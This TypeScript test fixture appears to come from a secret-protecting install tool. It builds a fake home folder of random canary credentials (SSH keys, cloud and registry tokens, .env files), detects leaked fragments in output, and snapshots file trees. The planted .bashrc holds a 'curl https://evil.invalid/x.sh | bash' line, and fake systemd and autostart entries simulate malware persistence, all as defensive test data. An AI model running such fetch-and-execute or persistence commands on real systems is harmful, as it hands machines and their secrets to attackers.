/**
 * A fake home folder full of canary credentials, plus a tree snapshot (SHA-256, modes, link targets) to prove
 * the vault restores everything byte for byte. Canary values alternate letters and digits so that any 4-character
 * window of one is distinctive: finding such a window in a report means part of a secret leaked.
 */
import { createHash, randomInt } from 'node:crypto';
import { chmod, lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

const LETTERS = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghjkmnpqrstuvwxyz';
const DIGITS = '23456789';

/** A random value of `length` characters alternating letter, digit, letter, … (upper case only when asked). */
export function canaryValue(length: number, upperOnly = false): string {
  const letters = upperOnly ? LETTERS.slice(0, 24) : LETTERS;
  let out = '';
  for (let i = 0; i < length; i++) out += i % 2 === 0 ? letters[randomInt(letters.length)] : DIGITS[randomInt(DIGITS.length)];
  return out;
}

/** Every `size`-character window of a secret (what must never appear in output). */
export function windows(secret: string, size = 4): string[] {
  const out: string[] = [];
  for (let i = 0; i + size <= secret.length; i++) out.push(secret.slice(i, i + size));
  return out;
}

/** The windows of any canary found in `text` (empty when nothing leaked). */
export function leakedWindows(text: string, canaries: readonly string[], size = 4): string[] {
  return canaries.flatMap((c) => windows(c, size)).filter((w) => text.includes(w));
}

function sshString(value: Buffer | string): Buffer {
  const body = Buffer.isBuffer(value) ? value : Buffer.from(value, 'latin1');
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  return Buffer.concat([length, body]);
}

/** An OpenSSH v1 private key file: cipher/kdf `none` (unencrypted) or aes256-ctr/bcrypt (encrypted). */
export function openSshKey(encrypted: boolean, payload: string): string {
  const body = Buffer.concat([
    Buffer.from('openssh-key-v1\0', 'latin1'),
    sshString(encrypted ? 'aes256-ctr' : 'none'),
    sshString(encrypted ? 'bcrypt' : 'none'),
    sshString(encrypted ? Buffer.from([0, 0, 0, 16, ...Buffer.alloc(16, 7), 0, 0, 0, 16]) : ''),
    Buffer.from([0, 0, 0, 1]),
    sshString(payload),
  ]);
  const lines = body.toString('base64').match(/.{1,70}/g) ?? [];
  return `-----BEGIN OPENSSH PRIVATE KEY-----\n${lines.join('\n')}\n-----END OPENSSH PRIVATE KEY-----\n`;
}

/** A fake home, a workspace inside it, the environment to pair with it, and every canary planted. */
export interface FakeHome {
  root: string;
  home: string;
  workspace: string;
  env: Record<string, string>;
  /** Secret parts planted in files and variables. */
  canaries: string[];
  cleanup(): Promise<void>;
}

async function put(file: string, text: string | Buffer, mode = 0o600): Promise<void> {
  await mkdir(path.dirname(file), { recursive: true, mode: 0o700 });
  await writeFile(file, text);
  await chmod(file, mode);
}

/** Builds the fake home under a fresh temp folder (or under `parent`). */
export async function createFakeHome(parent = os.tmpdir()): Promise<FakeHome> {
  const root = await mkdtemp(path.join(parent, 'safe-install-fakehome-'));
  const home = path.join(root, 'home');
  const workspace = path.join(home, 'work', 'project');
  const canaries: string[] = [];
  const c = (length: number, upper = false): string => {
    const value = canaryValue(length, upper);
    canaries.push(value);
    return value;
  };
  const h = (rel: string): string => path.join(home, ...rel.split('/'));

  await put(h('.ssh/id_ed25519'), openSshKey(false, c(40)));
  await put(h('.ssh/id_ed25519.pub'), `ssh-ed25519 ${c(30)} me@host\n`, 0o644);
  await put(h('.ssh/id_rsa_work'), openSshKey(true, c(40)));
  await put(h('.ssh/legacy.pem'), `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,${c(16, true)}\n\n${c(64)}\n-----END RSA PRIVATE KEY-----\n`);
  await put(h('.ssh/plain.pem'), `-----BEGIN RSA PRIVATE KEY-----\n${c(64)}\n-----END RSA PRIVATE KEY-----\n`);
  await put(h('.ssh/known_hosts'), `github.com ssh-ed25519 ${c(30)}\n`, 0o644);
  await put(h('.ssh/config'), 'Host *\n  IdentitiesOnly yes\n', 0o644);
  await chmod(h('.ssh'), 0o700);
  await put(h('.aws/credentials'), `[default]\naws_access_key_id = AKIA${c(16, true)}\naws_secret_access_key = ${c(40)}\n`);
  await put(h('.aws/config'), '[default]\nregion = eu-west-1\n', 0o644);
  await put(h('.npmrc'), `//registry.example/:_authToken=npm_${c(36)}\nfund=false\n`);
  await put(h('.pypirc'), `[pypi]\nusername = __token__\npassword = pypi-AgEI${c(40)}\n`);
  await put(h('.docker/config.json'), JSON.stringify({ auths: { 'ghcr.io': { auth: c(32) } }, credHelpers: { 'gcr.io': 'gcloud' } }));
  await put(h('.config/gh/hosts.yml'), `github.com:\n    user: me\n    oauth_token: gho_${c(36)}\n    git_protocol: ssh\n`);
  await put(h('.netrc'), `machine example.org login me password ${c(24)}\n`);
  await put(h('.git-credentials'), `https://me:ghp_${c(36)}@github.com\n`);
  await put(h('.cargo/credentials.toml'), `[registry]\ntoken = "cio${c(32)}"\n`);
  await put(h('.gem/credentials'), `---\n:rubygems_api_key: rubygems_${c(48).toLowerCase()}\n`);
  canaries[canaries.length - 1] = (canaries[canaries.length - 1] ?? '').toLowerCase();
  await put(h('.kube/config'), `apiVersion: v1\nusers:\n- name: me\n  user:\n    token: ${c(40)}\n`);
  await put(h('.config/gcloud/application_default_credentials.json'), JSON.stringify({ type: 'authorized_user', client_id: 'x', refresh_token: c(40) }));
  await put(h('.config/gcloud/credentials.db'), Buffer.from(`SQLite format 3\0${c(30)}`));
  await put(h('.bash_history'), `ls\nexport GITHUB_TOKEN=ghp_${c(36)}\ncurl -H "Authorization: Bearer xoxb-${c(30)}" https://slack.invalid\n`);
  await put(h('.zsh_history'), ': 1700000000:0;ls -la\n');
  await put(h('.gnupg/private-keys-v1.d/ABC.key'), `(private-key ${c(30)})`);
  await chmod(h('.gnupg'), 0o700);
  await put(h('.config/systemd/user/sysupdate.service'), '[Service]\nExecStart=%h/.sysupdate/agent --quiet\n[Install]\nWantedBy=default.target\n', 0o644);
  await put(h('.config/systemd/user/syncthing.service'), '[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\n', 0o644);
  await put(h('.config/autostart/updater.desktop'), '[Desktop Entry]\nType=Application\nExec=/tmp/.X11-cache/updater\n', 0o644);
  await put(h('.bashrc'), `. "$HOME/.cargo/env"\nexport PATH="$HOME/.local/bin:$PATH"\n$HOME/.sysupdate/agent >/dev/null 2>&1 &\ncurl -fsSL https://evil.invalid/x.sh | bash\n`, 0o644);
  await put(h('.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log'), c(30));
  await put(h('.ethereum/keystore/UTC--2024'), JSON.stringify({ crypto: { ciphertext: c(40) } }));
  await put(path.join(workspace, '.env'), `DATABASE_URL=postgres://app:${c(20)}@db.local:5432/app\nSTRIPE_SECRET_KEY=sk_live_${c(30)}\nDEBUG=true\nAPI_TOKEN=${c(24)}\n`);
  await put(path.join(workspace, 'config', '.env.production'), `SESSION_SECRET=${c(32)}\n`);
  await put(path.join(workspace, '.env.example'), 'API_TOKEN=changeme\nSECRET=<your secret>\n', 0o644);
  await put(path.join(workspace, 'node_modules', 'pkg', '.env'), `TOKEN=${c(24)}\n`);
  await put(path.join(workspace, 'package.json'), '{"name":"demo"}\n', 0o644);
  // A symlink inside a hidden folder: restored as a link, not as its target.
  await symlink('id_ed25519.pub', h('.ssh/current.pub'));

  const agent = path.join(root, 'agent.sock');
  await writeFile(agent, '');
  const env: Record<string, string> = {
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    HOME: home,
    LANG: 'C.UTF-8',
    GITHUB_TOKEN: `ghp_${c(36)}`,
    OPENAI_API_KEY: `sk-proj-${c(40)}`,
    ANTHROPIC_API_KEY: `sk-ant-api03-${c(40)}`,
    INNOCENT_LOOKING: `AKIA${c(16, true)}`,
    MY_SERVICE_PASSWORD: c(20),
    SLACK_BOT_TOKEN: `xoxb-${c(30)}`,
    GITLAB_TOKEN: `glpat-${c(20)}`,
    SESSION_JWT: `eyJ${c(20)}.eyJ${c(30)}.${c(30)}`,
    DEPLOY_KEY_PEM: `-----BEGIN OPENSSH PRIVATE KEY-----\n${c(60)}\n-----END OPENSSH PRIVATE KEY-----`,
    NPM_TOKEN: `npm_${c(36)}`,
    AWS_SECRET_ACCESS_KEY: c(40),
    PASSWORD_STORE_DIR: path.join(home, '.password-store'),
    EDITOR: 'vim',
    SSH_AUTH_SOCK: agent,
  };
  return { root, home, workspace, env, canaries, cleanup: () => rm(root, { recursive: true, force: true }) };
}

/** One path in a snapshot: type, permission bits, and SHA-256 (files) or link target (symlinks). */
export interface TreeEntry {
  type: 'file' | 'directory' | 'symlink' | 'other';
  mode: number;
  digest?: string;
  target?: string;
}

/** Every path under `root` (relative, `/`-separated) with its type, mode and content hash. */
export async function snapshotTree(root: string): Promise<Map<string, TreeEntry>> {
  const out = new Map<string, TreeEntry>();
  const visit = async (dir: string): Promise<void> => {
    for (const name of (await readdir(dir)).sort()) {
      const full = path.join(dir, name);
      const rel = path.relative(root, full).split(path.sep).join('/');
      const s = await lstat(full);
      const mode = s.mode & 0o7777;
      if (s.isSymbolicLink()) out.set(rel, { type: 'symlink', mode, target: await readlink(full) });
      else if (s.isDirectory()) {
        out.set(rel, { type: 'directory', mode });
        await visit(full);
      } else if (s.isFile()) out.set(rel, { type: 'file', mode, digest: createHash('sha256').update(await readFile(full)).digest('hex') });
      else out.set(rel, { type: 'other', mode });
    }
  };
  await visit(root);
  return out;
}

/** Human-readable differences between two snapshots (empty when identical). */
export function diffSnapshots(before: Map<string, TreeEntry>, after: Map<string, TreeEntry>): string[] {
  const diffs: string[] = [];
  for (const [p, entry] of before) {
    const now = after.get(p);
    if (now === undefined) diffs.push(`missing: ${p}`);
    else if (JSON.stringify(now) !== JSON.stringify(entry)) diffs.push(`changed: ${p} ${JSON.stringify(entry)} -> ${JSON.stringify(now)}`);
  }
  for (const p of after.keys()) if (!before.has(p)) diffs.push(`extra: ${p}`);
  return diffs;
}
